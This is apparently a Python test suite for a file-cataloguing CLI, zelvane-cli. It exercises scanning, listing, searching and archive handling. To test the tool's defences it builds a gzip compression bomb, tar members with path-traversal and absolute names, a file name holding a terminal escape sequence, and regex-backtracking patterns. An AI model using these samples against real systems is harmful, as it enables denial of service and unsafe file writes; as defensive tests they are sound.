"""zelvane-cli through the real program; runs as FILE zelvane-cli MANPAGE SOURCE_DIR CLASS."""
import base64, csv, io, json, os, pathlib, re, resource, shutil, signal, subprocess, sys
import tarfile, tempfile, time, unittest, zipfile, zlib

CLI = MAN = SOURCE = None
SUMMARY = "{} folder(s) & {} file(s) successfully added.\nTotal size is {} byte(s)\n"
D = [(9, 0, "D")]


def run(*args, stdin=b"", stdout=subprocess.PIPE, wrap=(), **options):
    """(status, stdout bytes, stderr text) of zelvane-cli args, through the command wrap."""
    done = subprocess.run([*wrap, CLI, *args], input=stdin, stdout=stdout, stderr=subprocess.PIPE,
                          env=dict(os.environ, LC_ALL="C"), timeout=120, **options)
    return done.returncode, done.stdout, done.stderr.decode("utf-8", "replace")


def record(kind, depth, text):
    """One snapshot record; the code points of text are its UTF-16 units."""
    if all(ord(c) <= 0xFF for c in text) and not text.startswith("\xff\xff"):
        return bytes([kind, depth]) + text.encode("latin-1") + b"\0"
    return bytes([kind, depth, 0xFF, 0xFF]) + text.encode("utf-16-le", "surrogatepass") + b"\0\0"


class CliTest(unittest.TestCase):
    def setUp(self):
        self.work = tempfile.mkdtemp(prefix="zelvane-cli-test-")
        self.addCleanup(shutil.rmtree, self.work)

    def path(self, *names): return os.path.join(self.work, *names)

    def read(self, name): return pathlib.Path(self.path(name)).read_bytes()

    def write(self, name, data):
        pathlib.Path(self.path(name)).write_bytes(data)
        return self.path(name)

    def tree(self, folder, names):
        """The folder with empty files (or folders, ending with /) at the relative paths."""
        for name in names:
            where = os.path.join(os.fsencode(self.path(folder)), os.fsencode(name))
            os.makedirs(os.path.dirname(where), exist_ok=True)
            if not where.endswith(b"/"):
                open(where, "wb").close()
        return self.path(folder)

    def scan(self, folder, title, name="s.zelv"):
        self.ok("scan", folder, "--title", title, "-o", self.path(name))
        return self.path(name)

    def snapshot(self, name, rows): return self.write(name, b"".join(record(*r) for r in rows))

    def roots(self, snapshot): return re.findall(r"^\S.*", self.ok("list", snapshot).decode(), re.M)

    def ok(self, *args, status=0, **options):  # the output of a run that says nothing on stderr
        code, out, err = run(*args, **options)
        self.assertEqual((code, err), (status, ""), args)
        return out

    def fails(self, command, cases, leaves=None):
        """Each (args, message) of command: status 2, no output, the message alone in one
        line (a usage error adds a hint), no control character, the folder left as leaves."""
        for args, message in cases:
            with self.subTest(args=args):
                code, out, err = run(command, *args)
                self.assertEqual((code, out), (2, b""), (args, err))
                self.assertIn(message, err, args)
                self.assertEqual(err.count("\n"), 2 if "Try 'zelvane-cli" in err else 1, err)
                self.assertNotIn("\x1b", err)
                if leaves is not None:
                    self.assertEqual(sorted(os.listdir(self.work)), leaves)


class Scan(CliTest):
    def setUp(self):
        super().setUp()
        self.disk = self.tree("disk", ["Zeta/", "alpha/inner/", "apple.txt", "autorun.inf"])
        self.write("disk/Beta.txt", b"1" * 5)
        self.write("disk/alpha/inner/notes.TXT", b"1" * 10)
        os.symlink("..", os.path.join(self.disk, "alpha", "loop"))
        self.other = self.tree("other", ["x.zip"])

    def test_failures_summary_append_and_standard_streams(self):
        evil, to, disk = self.path("evil\x1b[2J"), self.path("m.zelv"), self.disk
        missing = self.path("evil\\x1B[2J") + ": No such file or directory"
        self.fails("scan", [([evil, "-o", to], missing), ([disk, "--append", evil], missing),
            ([disk + "/apple.txt", "-o", to], disk + "/apple.txt: Not a directory"),
            ([disk], "an output file is needed"), (["-o", to], "a directory to capture is needed"),
            ([disk, self.other, "-o", to], "one directory, please"),
            ([disk, "--bogus", "-o", to], "unknown option '--bogus'"),
            ([disk, "--filter=", "-o", to], "--filter needs an extension"),
            ([disk, "-o", self.path("no/such/x.zelv")], "no/such/x.zelv: No such file")],
            leaves=["disk", "other"])
        self.assertTrue(self.ok("scan", "--help").startswith(b"Usage: zelvane-cli scan [OPTIONS]"))
        out = self.ok("scan", self.disk, "--title", "b disk", "-o", self.path("s.zelv"))
        self.assertEqual(out.decode(), SUMMARY.format(3, 5, 15))
        self.assertEqual(self.ok("list", self.path("s.zelv")).decode(),
                         "9 b disk\n  6  alpha\n    6  inner\n      5 notes.TXT\n    8 loop\n"
                         "  6  Zeta\n  5 apple.txt\n  3 autorun.inf\n  5 Beta.txt\n")
        out = self.ok("scan", self.disk, "--filter", "TXT", "-o", self.path("f.zelv"))
        self.assertEqual(out.decode(), SUMMARY.format(3, 1, 10))
        self.assertEqual(self.roots(self.path("f.zelv")), ["9 " + self.disk])
        os.mkdir(self.path("-dash"))  # after --, a path may begin with a dash
        self.ok("scan", "-o", "d.zelv", "--", "-dash", cwd=self.work)
        self.assertEqual(self.ok("list", self.path("d.zelv")), b"9 -dash\n")
        snapshot, copy = self.scan(self.disk, "b disk"), self.path("copy.zelv")
        self.ok("scan", self.other, "--title", "A other", "--append", snapshot)
        self.assertEqual(self.roots(snapshot), ["9 A other", "9 b disk"])
        self.ok("scan", self.other, "--append", snapshot, "-o", copy)
        self.assertEqual((len(self.roots(copy)), len(self.roots(snapshot))), (3, 2))
        code, out, err = run("scan", self.other, "--title", "T", "-o", "-")  # summary on stderr
        self.assertEqual((code, err, self.ok("list", "-", stdin=out)),
                         (0, SUMMARY.format(0, 1, 0), b"9 T\n  2 x.zip\n"))
        self.ok("scan", self.other, "--append", "-", "-o", copy, stdin=out)
        self.assertEqual(self.roots(copy), ["9 " + self.other, "9 T"])
        text = self.write("text.zelv", b"some text\nnot a snapshot\n")  # refused unless forced
        self.fails("scan", [([self.other, "--append", text], text + ": not a well-formed")])
        self.assertEqual(self.read("text.zelv"), b"some text\nnot a snapshot\n")
        self.ok("scan", self.other, "--append", text, "--force")
        self.assertEqual(sum(root.startswith("9 ") for root in self.roots(text)), 1)
        odd = self.snapshot("odd.zelv", [(9, 0, "R"), (200, 1, "x")])  # a kind above 11 is kept
        self.ok("scan", self.other, "--title", "T", "--append", odd)
        self.assertEqual(self.ok("list", odd), b"9 R\n  200 x\n9 T\n  2 x.zip\n")

    def test_empty_paths_are_no_files_and_concurrent_appends_all_survive(self):
        s, to = self.scan(self.other, "T"), self.path("n.zelv")
        for command, args in [("scan", ["", "-o", to]), ("scan", [self.other, "-o", ""]),
                              ("scan", [self.other, "--append", ""]), ("info", [""]), ("list", [""]),
                              ("export", ["", "-f", "csv"]), ("export", [s, "-f", "csv", "-o", ""]),
                              ("diff", [s, ""]), ("search", ["", "x"]), ("import", ["", "-o", to]),
                              ("import", [s, "-o", ""]), ("merge", [s, "", "-o", to]), ("unique", [""])]:
            self.fails(command, [(args, "zelvane-cli: '': No such file or directory")])
        loop = 'for i in $(seq 50); do "$0" scan "$1" --append "$2" >/dev/null || exit 1; done'
        runs = [subprocess.Popen(["sh", "-c", loop, CLI, self.other, s]) for _ in range(2)]
        self.assertEqual([r.wait(timeout=120) for r in runs], [0, 0])
        self.assertEqual(len(self.roots(s)), 101)

    @unittest.skipIf(os.geteuid() == 0 and not shutil.which("setpriv"), "root without setpriv")
    def test_folders_that_cannot_be_read_are_named_and_the_capture_saved(self):
        locked = self.tree("locked", ["open/a/f.txt", "shut/", "open/also shut/"])
        for folder in ["shut", "open/also shut"]:
            os.chmod(os.path.join(locked, folder), 0)
            self.addCleanup(os.chmod, os.path.join(locked, folder), 0o755)
        os.chmod(self.work, 0o777)
        nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
        code, out, err = run("scan", locked, "-o", self.path("locked.zelv"),
                             wrap=nobody if os.geteuid() == 0 else ())
        self.assertEqual((code, out.decode()), (1, SUMMARY.format(4, 1, 0)), err)
        self.assertEqual(sorted(err.splitlines()), [
            f"zelvane-cli: {locked}/{f}: Permission denied" for f in ("open/also shut", "shut")])
        self.assertEqual(len(self.ok("list", self.path("locked.zelv")).splitlines()), 6)


class ScanRules(CliTest):
    def test_filters_exclusions_one_file_system_and_the_progress_line(self):
        disk = self.tree("disk", ["a.JPG", "b.jpg", "c.png", "d.txt", "sub/x1.txt", "sub/y.txt"])
        for args, listed, warning in [
            (["--filter", ".jpg", "--filter=png"], "b.jpg c.png sub", "warning: --filter takes the "
             "extension without its dot: 'jpg' is used\n"),
            (["--filter", "jpg", "--filter-ignore-case"], "a.JPG b.jpg sub", ""),
            (["--filter", "jpg", "--filter", "*"], "a.JPG b.jpg c.png d.txt sub sub/x1.txt sub/y.txt", ""),
            (["--exclude", "*.txt", "--exclude=c*"], "a.JPG b.jpg sub", ""),
            (["--exclude", "sub/x*"], "a.JPG b.jpg c.png d.txt sub sub/y.txt", ""),
            (["--exclude", "sub"], "a.JPG b.jpg c.png d.txt", ""),
        ]:
            with self.subTest(args=args):
                code, _, err = run("scan", disk, *args, "-o", self.path("f.zelv"))
                self.assertEqual((code, err), (0, "zelvane-cli scan: " * bool(warning) + warning))
                names = self.ok("list", self.path("f.zelv"), "--path-style=slash").decode()
                self.assertEqual(" ".join(sorted(re.findall(r"disk/(\S+)", names))), listed)
        if os.stat("/dev").st_dev != os.stat("/dev/shm").st_dev:  # /dev/shm is mounted there
            self.ok("scan", "/dev", "-x", "-o", self.path("dev.zelv"))
            self.assertEqual(self.ok("list", self.path("dev.zelv"), "/dev/shm"), b"6  shm\n")
        master, slave = os.openpty()  # standard error a terminal: one line rewritten in place
        self.tree("disk", [f"many/{i}" for i in range(3000)])
        scan = subprocess.run([CLI, "scan", disk, "-o", self.path("p.zelv")], stdout=subprocess.PIPE,
                              stderr=slave, timeout=120)
        os.close(slave)
        shown = os.read(master, 1 << 16).decode()
        os.close(master)
        self.assertEqual(scan.returncode, 0)
        self.assertRegex(shown, r"^\rScanning: 0 folders, 0 files, \d+\.\d s, \d+ entries/s\x1b\[K.*"
                                r"\rSorting 3 00\d nodes\.\.\.\x1b\[K\r\x1b\[K$")
        self.assertNotIn("\n", shown)


def bomb():
    """A tar.gz whose second member is 8 GiB of zeros, in 9 MB: one compressed MiB again and
    again, each after a full flush so that it stands alone."""
    c, big = zlib.compressobj(1, zlib.DEFLATED, 31), tarfile.TarInfo("zeros")
    big.size = (8 << 30) - 1
    head = c.compress(tarfile.TarInfo("first.txt").tobuf() + big.tobuf()) + c.flush(zlib.Z_FULL_FLUSH)
    return head + (c.compress(bytes(1 << 20)) + c.flush(zlib.Z_FULL_FLUSH)) * 2048


@unittest.skipUnless(all(map(shutil.which, ["bsdtar", "zip", "xorriso", "7z"])), "archivers missing")
class ScanArchives(CliTest):
    def scan_archives(self, folder, *args, status=0):
        """The warnings of scan --archives and the snapshot's kinds and slash paths below folder."""
        code, out, err = run("scan", folder, "--archives", *args, "-o", self.path("a.zelv"))
        self.assertEqual(code, status, err)
        listed = self.ok("list", self.path("a.zelv"), "--format=tsv").decode().splitlines()
        rows = [row.split("\t") for row in listed[1:]]
        return sorted(err.splitlines()), [f"{r[3]} {r[1][len(folder) + 1:] + '/' * bool(r[1][len(folder):])}{r[2]}"
                                          for r in rows], out.decode()

    def test_formats_nesting_hostile_members_and_bounds(self):
        src = self.tree("src", ["docs/readme.txt", "music/song.mp3", "empty/"])
        disk, members = self.tree("disk", ["plain.txt", "empty.bin"]), ["6 {0}/docs", "5 {0}/docs/readme.txt",
                                                                   "6 {0}/empty", "6 {0}/music", "7 {0}/music/song.mp3"]
        for make in (["zip", "-qr", disk + "/photos.dat", "."], ["bsdtar", "--zstd", "-cf", disk + "/t.tar.zst", "."],
                     ["xorriso", "-as", "mkisofs", "-quiet", "-R", "-J", "-o", disk + "/cd.iso", "."],
                     ["7z", "a", "-bso0", disk + "/s.7z", "."], ["zip", "-q", "-j", disk + "/i.zip", disk + "/cd.iso"]):
            subprocess.run(make, cwd=src, check=True, stderr=subprocess.DEVNULL)
        err, paths, out = self.scan_archives(disk)
        self.assertEqual(err, [])
        self.assertEqual(out, SUMMARY.format(0, 7, f"{sum(os.path.getsize(f'{disk}/{f}') for f in os.listdir(disk)):,}".replace(",", " "))
                         + "26 archive member(s) listed\n")
        self.assertEqual(sorted(paths), sorted(["8 cd.iso", "8 empty.bin", "5 plain.txt", "10 photos.dat", "2 s.7z",
                                        "8 t.tar.zst", "2 i.zip", "8 i.zip/cd.iso"] + [m.format(a) for a in ["cd.iso",
                                        "photos.dat", "s.7z", "t.tar.zst", "i.zip/cd.iso"] for m in members]))
        self.assertEqual(run("search", self.path("a.zelv"), "song", "--dialog-rules")[1].decode().split(),
                         [f"{disk}/{a}/music/song.mp3" for a in ["cd.iso", "i.zip/cd.iso", "photos.dat", "s.7z",
                                                                 "t.tar.zst"]])
        self.assertEqual(self.ok("scan", disk, "-o", self.path("p.zelv")).decode().count("\n"), 2)  # no change
        nest, bad = self.path("nest"), self.path("bad")
        os.mkdir(nest), os.mkdir(bad)  # three levels of zip: the third opens with a depth of 3
        self.tree("n", ["a.txt"]), self.write("n/a.txt", os.urandom(40000))  # past the first bytes read
        subprocess.run(f"zip -q in.zip a.txt && zip -q mid.zip in.zip && zip -q {nest}/out.zip mid.zip",
                       shell=True, cwd=self.path("n"), check=True)
        for args, deepest in [([], "mid.zip/in.zip"), (["--archive-depth", "1"], "mid.zip"),
                              (["--archive-depth=3"], "mid.zip/in.zip/a.txt")]:
            self.assertEqual(self.scan_archives(nest, *args)[1][-1].split()[1], "out.zip/" + deepest)
        self.fails("scan", [([nest, "--archives", "--archive-depth", n, "-o", "x"], "--archive-depth takes 1 to 16")
                            for n in ["0", "17", "999"]] + [([nest, "--archive-depth", "2", "-o", "x"], "goes with")])

        # Each keeps what could be listed and is named in one line
        with tarfile.open(f"{bad}/names.tar", "w", format=tarfile.GNU_FORMAT, errors="surrogateescape") as t:
            for name in ["..", "../up.txt", "/abs/x.txt", os.fsdecode(b"odd\xff\x01"), "", "a/" * 300 + "deep.txt",
                         "./", "./dot/./y.txt", "dot/"]:
                t.addfile(tarfile.TarInfo(name))
        self.write("bad/bomb.tar.gz", bomb())
        with zipfile.ZipFile(f"{bad}/utf8.zip", "w") as z:  # a UTF-8 name that is not
            z.writestr("ok\u00e9.txt", ""), z.writestr("odd\u00ff", "")
        self.write("bad/utf8.zip", self.read("bad/utf8.zip").replace(b"odd\xc3\xbf", b"odd\xff\xfe"))
        self.write("bad/cut.zip", self.read("disk/photos.dat")[:300])
        subprocess.run(["zip", "-qrP", "secret", bad + "/locked.zip", "."], cwd=src, check=True)
        err, paths, _ = self.scan_archives(bad, status=1)
        self.assertEqual(err, [f"zelvane-cli: {bad}/{e}" for e in [
            "bomb.tar.gz: listing stopped after 1073741824 bytes decompressed (a compression bomb?)",
            "cut.zip: cannot list it to its end: Truncated ZIP file header",
            "locked.zip: encrypted: its members are listed, their contents not read",
            "names.tar: 1 member(s) deeper than 255 levels left out",
            "utf8.zip: Pathname cannot be converted from UTF-8 to current locale."]])
        self.assertEqual([p for p in paths if p.split()[1].startswith(("bomb", "names"))], [
            "2 bomb.tar.gz", "5 bomb.tar.gz/first.txt", "8 bomb.tar.gz/zeros", "2 names.tar", "8 names.tar/", "6 names.tar/..",
            "5 names.tar/../up.txt", "6 names.tar//", "6 names.tar///abs", "5 names.tar//abs/x.txt",
            "6 names.tar/dot", "5 names.tar/dot/y.txt", "8 names.tar/..", "8 names.tar/odd\\xFF\\x01"])
        self.assertIn("5 utf8.zip/ok\u00e9.txt", paths)  # UTF-8 names in any locale
        self.assertEqual([sum(f"{a}.zip/" in p for p in paths) > 1 for a in ["cut", "locked"]], [True, True])


class Completion(CliTest):
    """The shells' completions and the manual page against --help."""

    def complete(self, shell, line):
        """The words shell offers for the command line (which ends where Tab is pressed)."""
        folder = os.path.join(os.path.dirname(CLI), "completions", shell)
        env = dict(os.environ, PATH=os.path.dirname(CLI) + os.pathsep + os.environ["PATH"])
        if shell == "bash":
            words = " ".join(repr(w) for w in line.split(" "))
            script = (f"source {folder}/zelvane-cli; COMP_WORDS=({words}); COMP_CWORD="
                      f"{line.count(' ')}; _zelvane_cli; printf '%s\\n' \"${{COMPREPLY[@]}}\"")
            command = ["bash", "--norc", "-c", script]
        elif shell == "fish":
            command = ["fish", "--no-config", "-c", f"source {folder}/zelvane-cli.fish; "
                       f"complete -C '{line}'"]
        else:
            command = ["zsh", "-f", os.path.join(SOURCE, "tests/cli/complete.zsh"), folder,
                       self.path("zsh.out"), line]
        out = subprocess.run(command, capture_output=True, env=env, timeout=30).stdout
        out = self.read("zsh.out") if shell == "zsh" else out
        return {w.split("\t")[0] for w in out.decode().splitlines() if w}

    def options(self, command):
        """The options that COMMAND --help lists."""
        found = re.findall(r"^\s+(?:(-\w), )?(--[\w-]+)", self.ok(command, "--help").decode(), re.M)
        return {o for pair in found for o in pair if o}

    def test_every_shell_completes_the_commands_and_each_commands_options(self):
        commands = re.findall(r"^  (\w+) ", self.ok("--help").decode(), re.M)
        for shell in ("bash", "zsh", "fish"):
            if shutil.which(shell) is None:
                self.skipTest(f"{shell} is not installed")
            with self.subTest(shell=shell):
                self.assertLessEqual(set(commands), self.complete(shell, "zelvane-cli "))
                for command in commands:
                    longs = {o for o in self.options(command) if o.startswith("--")}
                    self.assertLessEqual(longs, self.complete(shell, f"zelvane-cli {command} --"))
                self.assertEqual(self.complete(shell, "zelvane-cli search --format "),
                                 {"text", "tsv", "json"})
                self.assertIn("media-file", self.complete(shell, "zelvane-cli search --kind "))
                if shell == "fish":  # a value of its own: no file names offered; an operand's are
                    self.assertEqual(self.complete(shell, "zelvane-cli scan --title "), set())
                    self.write("s.zelv", b"")
                    offered = self.complete(shell, "zelvane-cli info " + self.path("s"))
                    self.assertIn(self.path("s.zelv"), offered)
        page = pathlib.Path(MAN).read_text(encoding="utf-8").replace("\\-", "-")
        named = set(re.findall(r"(?<![\w-])--?\w[\w-]*", page))
        for command in commands:
            self.assertLessEqual(self.options(command), named, command)
            self.assertRegex(page, rf"\n\.SS {command}\n")


def state(pid): return pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]


def inside(pid, folder):
    """Whether the process catches SIGINT and has folder or a folder inside it open."""
    with open(f"/proc/{pid}/status") as f:
        caught = int(re.search(r"^SigCgt:\s*(\w+)", f.read(), re.M)[1], 16)
    open_files = [os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")]
    folder = os.path.realpath(folder)
    return caught >> (signal.SIGINT - 1) & 1 and any(
        name == folder or name.startswith(folder + "/") for name in open_files)


class Interrupt(CliTest):
    """Ctrl-C at a known point: the scan is stopped (SIGSTOP) while it has a folder of the
    tree open, sent SIGINT, and let go on (SIGCONT) with the signal pending."""

    def hold(self, scan):
        """Stops the scan inside the tree; False when it ended before it was seen there."""
        while scan.poll() is None:
            try:
                if inside(scan.pid, self.big):
                    os.kill(scan.pid, signal.SIGSTOP)
                    while state(scan.pid) not in "TZ":
                        pass
                    if state(scan.pid) == "T" and inside(scan.pid, self.big):
                        return True
                    os.kill(scan.pid, signal.SIGCONT)
            except OSError:
                pass  # a descriptor closed while it was looked at
        return False

    def interrupt(self, *args):
        """(status, stdout, stderr) of a scan interrupted inside the tree, run again if missed."""
        for _ in range(50):
            self.snapshot("old.zelv", [(9, 0, "old")])
            pathlib.Path(self.path("new.zelv")).unlink(missing_ok=True)
            with subprocess.Popen([CLI, "scan", self.big, *args], stdout=subprocess.PIPE,
                                  stderr=subprocess.PIPE) as scan:
                try:
                    if held := self.hold(scan):
                        os.kill(scan.pid, signal.SIGINT)
                        os.kill(scan.pid, signal.SIGCONT)
                    out, err = scan.communicate(timeout=120)
                except BaseException:
                    scan.kill()  # never left stopped
                    raise
            if held:
                return scan.returncode, out, err.decode()
        self.fail("the scan was never caught inside the tree")

    def test_a_stopped_capture_is_saved_only_into_a_new_file(self):
        self.big, old = self.tree("big", ["d%d/" % i for i in range(1000)]), self.path("old.zelv")
        for args, told in [(["-o", old], old + " was left as it was"), (["-o", "-"], "nothing was "
                           "written"), (["--append", old], old + " was left as it was")]:
            with self.subTest(args=args):
                code, out, err = self.interrupt(*args)
                self.assertEqual((code, out, err.splitlines()[-1]),
                                 (130, b"", "zelvane-cli: stopped; " + told))
                self.assertEqual(self.ok("list", old), b"9 old\n")
        code, out, err = self.interrupt("-o", self.path("new.zelv"))
        self.assertEqual((code, err, out.decode().splitlines()[-1]),
                         (130, "", "Note: Scanning process was interrupted."))
        self.assertEqual(self.roots(self.path("new.zelv")), ["9 " + self.big])


class Search(CliTest):  # what each option changes; how names match: the matchers' own test

    def test_each_option_and_several_files(self):
        s = self.scan(self.tree("disk", ["Docs/ReadMe.txt", "readme.md"]), "Disk")
        t = self.scan(self.tree("two", ["Sub/README", "Stra\u00dfe.txt"]), "Two", "t.zelv")
        missing = self.path("missing.zelv")
        for args, status, out in [
            ([s, "readme"], 0, "Disk/Docs/ReadMe.txt\nDisk/readme.md\n"),
            ([s, "readme", "--path-style=native"], 0, " Disk\\ Docs\tReadMe.txt\n Disk\treadme.md\n"),
            ([s, "readme", "--match-case", "--format", "text"], 0, "Disk/readme.md\n"),
            ([s, "readme", "-s", "-i"], 0, "Disk/Docs/ReadMe.txt\nDisk/readme.md\n"),  # the last
            (["--whole", s, "docs"], 0, "Disk/Docs\n"),
            (["--dialog-rules", "--whole", s, " Docs"], 0, "Disk/Docs\n"),  # the stored text
            ([s, "D", "--no-recursive"], 0, "Disk\n"),
            ([s, "D", "--files-only", "--no-recursive"], 1, ""),
            ([s, "--", "--x"], 1, ""),
            (["-e", "readme", t, s], 0, f"{t}:Two/Sub/README\n{s}:Disk/Docs/ReadMe.txt\n"
                                        f"{s}:Disk/readme.md\n"),
            ([missing, t, "README"], 2, f"{t}:Two/Sub/README\n"),
            ([t, "-e", "STRASSE"], 0, "Two/Stra\u00dfe.txt\n"),  # full case folding
            ([t, "-e", "STRASSE", "--dialog-rules"], 1, ""),
            ([t, "-e", "STRASSE", "--ignore-case-unicode"], 0, "Two/Stra\u00dfe.txt\n"),
            ([t, "*e*", "--glob", "--kinds", "numbers"], 0,
             "Two/Sub/README\t8\nTwo/Stra\u00dfe.txt\t5\n"),
            ([s, "[r]*.m?", "-g", "--kinds", "names"], 0, "Disk/readme.md\tother-file\n"),
            ([s, "^read.*txt$", "--regex"], 0, "Disk/Docs/ReadMe.txt\n"),
            ([s, "*.{md,txt}", "-g"], 0, "Disk/Docs/ReadMe.txt\nDisk/readme.md\n"),
            ([s, "Disk/**/*.txt", "-gp"], 0, "Disk/Docs/ReadMe.txt\n"),
            ([s, "Disk/*.txt", "--glob", "--full-path"], 1, ""),  # * stays in one name
            ([s, "*e?d*", "-g"], 0, "Disk/Docs/ReadMe.txt\nDisk/readme.md\n"),
            ([s, "Disk/[d]*/*.txt", "-gp"], 0, "Disk/Docs/ReadMe.txt\n"),
            ([s, "^disk/docs$", "-Ep"], 0, "Disk/Docs\n"),
            ([s, "d", "--kind=folder", "-t", "5"], 0, "Disk/Docs\nDisk/Docs/ReadMe.txt\n"),
            (["--root", "Two", s, t, "-e", "e"], 0, f"{t}:Two/Sub/README\n{t}:Two/Stra\u00dfe.txt\n"),
            ([s, "d", "-n1"], 0, "Disk\n"), ([s, "-e", "-h"], 1, ""),
        ]:
            with self.subTest(args=args):
                told = f"zelvane-cli: {missing}: No such file or directory\n" * (missing in args)
                n = len(out.splitlines())
                count = f"{n} match{'es' * (n != 1)} found.\n"
                self.assertEqual(run("search", *args), (status, out.encode(), told + count))
        got = run("search", s, t, "-e", "readme", "-0")[1]  # one record a match, for xargs -0
        self.assertEqual(got.split(b"\0"), [s.encode() + b":Disk/Docs/ReadMe.txt", s.encode() +
                                            b":Disk/readme.md", t.encode() + b":Two/Sub/README", b""])
        self.assertEqual([run("search", *a)[:2] for a in ([s, t, "e", "-c"], [s, "e", "-qc"])],
                         [(0, f"{s}:2\n{t}:2\n".encode()), (0, b"")])
        code, _, err = run("search", "readme", s)  # grep's order
        self.assertEqual((code, err.splitlines()[1]), (2, f"zelvane-cli search: hint: the pattern "
                         f"comes after the files (search {s} PATTERN), or give it with -e PATTERN"))
        got = run("search", t, s, "README", "--format", "json")[1]
        self.assertEqual([json.loads(row)["file"] for row in got.splitlines()], [t, s, s])
        self.fails("search", [([s], "a snapshot file and a pattern are needed"),
            ([s, ""], "the pattern is empty"), (["-e", "x"], "a snapshot file is needed"),
            ([s, "x", "-e"], "-e needs a value"),
            ([s, "x", "--wha"], "unknown option '--wha'"), ([s, "x", "--kinds"], "--kinds needs a"),
            ([s, "x", "--glob", "--regex"], "--glob and --regex do not go together"),
            ([s, "x", "--ma"], "option '--ma' is ambiguous (--match-case or --max-results)"),
            ([s, "x", "-n", "two"], "--max-results needs a number, not 'two'"),
            ([s, "x", "--whole=yes"], "--whole takes no value"),
            ([s, "x", "--kind", "dir"], "the kind is a number from 0 to 11 or a name"),
            ([s, "x", "-g", "--dialog-rules"], "--dialog-rules does not go with"),
            ([s, "(", "--regex"], "search: "), ([s, "x", "-0", "--format", "json"], "-0 prints"),
            ([s, "x", "--form", "xml"], "--format is text, tsv or json, not 'xml'")])


    def test_slow_patterns_end_in_time(self):  # each run bounded by an alarm: timeout(1)
        name, many, slow = "holiday_photos_from_the_beach_2019_final_version_2.jpeg", "a" * 40 + "!", 2
        s = self.snapshot("s.zelv", D + [(5, 1, name), (5, 1, many)])
        long, longer = (self.snapshot(f"{n}.zelv", [(9, 0, "L"), (5, 1, "a" * n)])
                        for n in (10**6, 3 * 10**6))
        for snapshot, args, code, told in [(s, [r"^(\w+_?)+\.jpg$"], slow, "D/" + name)] + [
                (s, [p], slow, "D/" + many) for p in ("(a+)+$", "(a|aa)*b", "(a*)*b")] + [
                (long, ["^(a|ab)*$", "-x"], 0, "L/a"), (longer, ["^(a|ab)*$"], slow, "L/a"),  # no stack
                (long, ["-g", "*" + "a" * 20000 + "b"], 1, ""),
                (long, ["-g", "*a*" + "a" * 20000 + "?"], 0, "L/a"),
                (long, ["-gp", "**/" * 100 + "*b"], 1, "")]:  # overflow taken for a mismatch
            with self.subTest(args=args[0][:20]):
                code_, out, err = run("search", snapshot, *["-E"] * (args[0][0] != "-"), *args,
                                      wrap=("timeout", "30"))
                self.assertEqual((code_, err.count("\n")), (code, 1), err[:200])
                self.assertTrue((err if code == slow else out.decode()).startswith(
                    "zelvane-cli: pattern too slow for " * (code == slow) + told), err[:200])


class HostileTrees(CliTest):  # each run bounded by an alarm: timeout(1)
    def test_a_file_system_holding_itself_an_endless_one_and_a_comb_with_few_descriptors(self):
        comb = self.tree("comb", ["d/" * level + "f" for level in range(200)])  # 200 folders deep
        code, _, err = run("scan", comb, "-o", self.path("few.zelv"), preexec_fn=lambda: resource.setrlimit(
            resource.RLIMIT_NOFILE, (8, 8)))
        listed = self.ok("list", self.path("few.zelv")).decode().splitlines()
        again = self.ok("list", self.scan(comb, comb)).decode().splitlines()
        self.assertEqual((code, err, listed), (0, "", again))
        self.assertEqual((len(listed), listed[199], listed[-1]), (400, "  " * 199 + "6  d", "  8 f"))
        fs, point = os.environ.get("ZELVANE_LOOPING_FS"), self.path("mnt")
        if not (fs and os.path.exists("/dev/fuse") and shutil.which("fusermount3")):
            self.skipTest("FUSE is missing: no /dev/fuse, fusermount3 or looping_fs built")
        os.mkdir(point)
        self.addCleanup(subprocess.Popen([fs, "-f", "-s", point]).wait, 10)
        self.addCleanup(subprocess.run, ["fusermount3", "-u", "-z", point])
        for _ in range(200):
            time.sleep(0.05 * (not os.path.ismount(point)))
        code, out, err = run("scan", point, "--exclude", "deep", "-o", self.path("s.zelv"),
                             wrap=("timeout", "20"))
        self.assertEqual((code, err), (0, f"zelvane-cli: {point}/loop: File system loop detected\n"))
        self.assertEqual(self.ok("list", self.path("s.zelv")), f"9 {point}\n  6  loop\n".encode())
        scan = subprocess.Popen([CLI, "scan", point, "-o", self.path("e.zelv")],
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.addCleanup(scan.kill)
        time.sleep(1)
        scan.send_signal(signal.SIGINT)
        self.assertEqual(scan.wait(20), 130)
        self.assertIn(" deep\n", self.ok("list", self.path("e.zelv")).decode())


class List(CliTest):
    def test_odd_names_long_output_closed_pipes_full_disks_and_versions(self):
        odd = [b"tab\there", b"new\nline", b"back\\slash", b"invalid\xff\xfe.txt",
               "\u65e5\u672c\u8a9e \u03a9.mp3".encode(), b" space"]
        files = odd + [b"sub \xe9\\dir/" + name for name in odd]
        s, expected = self.scan(self.tree("disk", files), "R", "s\t\udcff.zelv"), sorted(
            [b"sub \xe9\\dir", *files])
        out = self.ok("list", s, "--null", "--path-style", "slash")
        self.assertEqual(sorted(out.split(b"\0")), [b"", b"R", *(b"R/" + p for p in expected)])
        rows = [json.loads(line) for line in self.ok("list", s, "--format", "json").splitlines()]
        self.assertEqual(rows[0], {"file": s, "path": [], "name": "R", "kind": 9,
                                   "kindName": "drive-root", "fullPath": "R"})
        self.assertEqual(sorted(r["fullPath"].encode("utf-8", "surrogateescape") for r in rows),
                         sorted(out.split(b"\0"))[1:])
        # The folders' texts below the root and the name, without a folder's leading space.
        paths = ["/".join([t[1:] for t in r["path"][1:]] + [r["name"][r["kind"] == 6:]])
                 for r in rows[1:]]
        self.assertEqual(sorted(p.encode("utf-8", "surrogateescape") for p in paths), expected)
        tsv = self.ok("list", s, "--format", "tsv").split(b"\n")
        self.assertEqual(({len(line.split(b"\t")) for line in tsv[:-1]}, len(tsv), tsv[-1]),
                         ({5}, len(rows) + 1, b""))
        self.assertIn(b"\tR/sub \\xE9\\\\dir\tnew\\nline\t", b"\n".join(tsv))
        # Text: one line a node, a tab only between search's columns, no control character.
        for out, tabs, count in [(self.ok("list", s), 0, len(rows)),
                                 (self.ok("list", s, "--path-style", "slash"), 0, len(rows)),
                                 (run("search", s, "*", "-g", "--path-style=native")[1], 1,
                                  len(rows))]:
            self.assertEqual([line.count(b"\t") for line in out.split(b"\n")], [tabs] * count + [0])
